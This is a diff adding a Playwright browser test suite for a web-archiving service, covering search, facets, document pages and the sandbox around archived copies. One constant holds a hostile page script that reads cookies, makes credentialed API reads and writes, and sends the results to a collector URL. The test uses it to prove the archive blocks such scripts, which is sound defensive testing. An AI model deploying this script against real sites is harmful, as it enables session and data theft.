@@ -1,0 +1,192 @@
+"""The browser pages in headless Chromium (Debian's package, driven by Playwright) against
+a real uvicorn on loopback: searching, facets, documents, archived copies, preserving a
+URL after logging in, and the sandbox that keeps archived scripts away from the app."""
+
+from __future__ import annotations
+
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import uvicorn
+from fastapi import FastAPI
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+from servicetools import serve_articles
+
+from api.app import create_app
+from api.tokens import create_token
+from archive.config import Settings
+from conftest import Route, WebServer
+
+CHROMIUM = "/usr/bin/chromium"
+ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+PROBE = "probe-secret-4711"
+APPS: dict[str, FastAPI] = {}  # the running service of each base URL
+
+# What a hostile archived page tries: read the app's cookies, call its API with the
+# visitor's credentials (a read and a write), and report everything to a collector.
+HOSTILE = """<html><head><title>hostile</title></head><body><p>Hostile page</p><script>
+const collect = (what) => { new Image().src = "COLLECT?" + what; };
+let cookie;
+try { cookie = document.cookie; } catch (error) { cookie = "blocked:" + error.name; }
+collect("cookie=" + encodeURIComponent(cookie));
+fetch("/api/v1/status", {credentials: "include"})
+  .then((r) => r.text()).then((t) => collect("status=" + encodeURIComponent(t.slice(0, 40))))
+  .catch((e) => collect("status-failed=" + e.name));
+fetch("/api/v1/captures", {method: "POST", credentials: "include",
+  headers: {"Content-Type": "application/json"}, body: JSON.stringify({urls: "http://e.x/"})})
+  .then((r) => collect("write=" + r.status)).catch((e) => collect("write-failed=" + e.name));
+document.title = "ran";
+</script></body></html>"""
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+@pytest.fixture
+def server(home: Settings) -> Iterator[str]:
+    """The service under a real uvicorn on loopback; yields its base URL."""
+    port = _free_port()
+    app = create_app(home)
+    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning")
+    running = uvicorn.Server(config)
+    thread = threading.Thread(target=running.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 60
+    while not running.started:
+        assert time.monotonic() < deadline and thread.is_alive(), "uvicorn did not start"
+        time.sleep(0.05)
+    base = f"http://127.0.0.1:{port}"
+    APPS[base] = app
+    yield base
+    del APPS[base]
+    running.should_exit = True
+    thread.join(30)
+
+
+@pytest.fixture
+def browser() -> Iterator[Browser]:
+    if not Path(CHROMIUM).exists():
+        pytest.fail(f"Chromium is needed at {CHROMIUM} (apt-get install chromium)")
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
+        yield launched
+        launched.close()
+
+
+def _token(base: str) -> str:
+    return create_token(APPS[base].state.repository.catalog, "reporter")
+
+
+def _log_in(page: Page, base: str, token: str) -> None:
+    page.goto(f"{base}/preserve")
+    expect(page).to_have_url(f"{base}/login?next=%2Fpreserve")
+    page.fill("input[name=token]", token)
+    page.click("form.stack button[type=submit]")
+    expect(page).to_have_url(f"{base}/preserve")
+
+
+def _preserve(page: Page, urls: list[str]) -> None:
+    page.fill("#preserve textarea[name=urls]", "\n".join(urls))
+    page.click("#preserve button[type=submit]")
+    expect(page.locator("body[data-job-finished='1']")).to_have_count(1, timeout=120_000)
+    expect(page.locator("#job td.state")).to_have_text(["searchable"] * len(urls))
+
+
+def test_preserve_search_facet_document_and_archived_copy(
+    home: Settings, server: str, browser: Browser, web: WebServer
+) -> None:
+    urls = serve_articles(web)
+    page = browser.new_page()
+    _log_in(page, server, _token(server))
+    _preserve(page, list(urls.values()))
+
+    # English search from the box.
+    page.goto(server + "/")
+    page.fill("form.search input[name=q]", "organ harvesting")
+    page.press("form.search input[name=q]", "Enter")
+    expect(page.locator(".hit h3")).to_have_text(["China Tribunal final judgment"])
+    expect(page.locator(".hit .snippet mark").first).to_have_text("organ")
+
+    # Chinese search, then a facet narrows it to one year.
+    page.fill("form.search input[name=q]", "器官")
+    page.press("form.search input[name=q]", "Enter")
+    expect(page.locator(".hit")).to_have_count(2)
+    expect(page.locator(".hit .snippet mark").first).to_have_text("器官")
+    page.locator("[data-facet=year] a", has_text="2020").click()
+    expect(page.locator(".hit h3")).to_have_text(["人權報告 器官摘取"])
+    expect(page.locator(".filters .chip")).to_have_count(2)
+
+    # The document page, its versions and citation.
+    page.locator(".hit h3 a").click()
+    expect(page.locator("h1")).to_have_text("人權報告 器官摘取")
+    expect(page.locator(".versions tbody tr")).to_have_count(1)
+    expect(page.locator(".versions tbody td").nth(2)).to_have_text("first capture")
+    citation = page.locator("#citation").input_value()
+    assert f"{server}/archive/" in citation and urls["/zh-hant/report.html"] in citation
+
+    # The archived copy, framed and sandboxed, under its banner.
+    page.click("text=View the archived copy")
+    expect(page.locator(".banner .what")).to_contain_text("This is an archived copy")
+    frame = page.frame_locator("iframe.capture")
+    expect(frame.locator("h1")).to_have_text("人權報告 器官摘取")
+    assert page.locator("iframe.capture").get_attribute("sandbox") == ""
+
+
+def test_archived_scripts_cannot_read_cookies_or_call_the_api(
+    home: Settings, server: str, browser: Browser, web: WebServer
+) -> None:
+    collector = web.url("/collect")
+    hostile = web.route(
+        "/hostile.html",
+        Route(
+            body=HOSTILE.replace("COLLECT", collector).encode(),
+            headers=[("Content-Type", "text/html; charset=utf-8")],
+        ),
+    )
+    context = browser.new_context()
+    # A cookie of the app that page scripts could read if they ran as the app's origin.
+    context.add_cookies([{"name": "probe", "value": PROBE, "url": server, "httpOnly": False}])
+    page = context.new_page()
+    _log_in(page, server, _token(server))
+    _preserve(page, [hostile])
+
+    # The control: served live, the same script runs and reports to the collector.
+    page.goto(hostile)
+    expect(page).to_have_title("ran")
+    deadline = time.monotonic() + 30
+    while not any(hit.startswith("/collect?write") for hit in web.hits):
+        assert time.monotonic() < deadline, web.hits
+        time.sleep(0.1)
+    web.hits.clear()
+
+    # Archived: through the archived-copy page (framed) and the replay URL itself.
+    page.goto(server + "/")
+    page.fill("form.search input[name=q]", "hostile")
+    page.press("form.search input[name=q]", "Enter")
+    page.click("text=archived copy")
+    frame = page.frame_locator("iframe.capture")
+    expect(frame.locator("p")).to_have_text("Hostile page")
+    replay = page.locator("iframe.capture").get_attribute("src")
+    page.goto(server + replay)
+    expect(page.locator("p")).to_have_text("Hostile page")
+    assert page.title() == "hostile"  # the script never ran as the app
+    page.wait_for_timeout(1500)  # give any stray request time to arrive
+    leaked = [hit for hit in web.hits if hit.startswith("/collect")]
+    assert leaked == []
+    assert not any(PROBE in hit for hit in web.hits)
+    jobs = context.request.get(server + "/api/v1/status").json()["jobs"]
+    assert jobs["done"] + jobs["failed"] + jobs["queued"] + jobs["running"] == 1  # no write
